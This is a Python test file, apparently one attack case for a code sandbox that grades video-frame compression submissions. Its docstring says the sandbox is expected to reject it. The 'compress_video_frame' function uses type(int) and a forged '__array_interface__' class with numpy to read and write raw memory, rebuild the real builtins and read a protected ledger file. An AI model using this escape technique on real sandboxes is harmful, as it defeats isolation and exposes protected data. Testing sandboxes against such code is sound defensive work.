"""Attack: type() of a class is `type` itself, so type(int) is the class-making type under a
spelling with one argument, which the old rule let through. The class it makes maps memory
through a computed "__array_interface__"; the attack forges a reference to the real builtins
and reads the ledger's database file.

Expected: rejected statically (type(value) may only be compared). With static validation
off the open trips the audit hook (violation); without it the ledger is not in the
sandbox's file view, and Landlock refuses the read.
"""
import lzma

import numpy as np

SPECIAL = "_" * 2 + "array_interface" + "_" * 2
make = type(int)


def address_of(value):
    return int(repr(value).rsplit(" ", 1)[1].rstrip(">"), 16)  # "<function f at 0x7f...>"


def memory(address, size):
    interface = {"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}
    return np.asarray(make("View", (), {SPECIAL: interface})())


def word(address, value=None):
    if value is not None:
        memory(address, 8)[:] = np.frombuffer(value.to_bytes(8, "little"), np.uint8)
    return int.from_bytes(memory(address, 8).tobytes(), "little")


def holder(value=None):
    return value


def object_at(address):
    word(address, word(address) + 1)
    word(word(address_of(holder) + 56) + 24, address)  # holder's first default
    return holder()


def compress_video_frame(frame, frame_index, config):
    real_builtins = object_at(word(address_of(lzma.compress) + 24))
    with real_builtins["op" + "en"](config["ledger"], "rb") as handle:
        return b"ESCAPED:" + b"".join(handle)[:4096]


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
